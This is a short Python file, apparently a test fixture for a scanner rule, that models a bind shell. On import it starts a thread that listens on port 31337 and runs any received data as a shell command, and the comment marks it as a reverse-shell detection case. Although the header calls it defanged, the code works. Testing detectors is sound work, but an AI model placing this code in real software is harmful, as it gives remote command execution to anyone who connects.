# Defanged model of a bind shell started on import: whatever arrives on the port is run as a command.
import socket
import subprocess
import threading


def _serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(('0.0.0.0', 31337))
    s.listen(1)
    while True:
        conn, _ = s.accept()
        data = conn.recv(4096)
        # ruleid: code/reverse-shell
        conn.sendall(subprocess.check_output(data, shell=True))


threading.Thread(target=_serve, daemon=True).start()
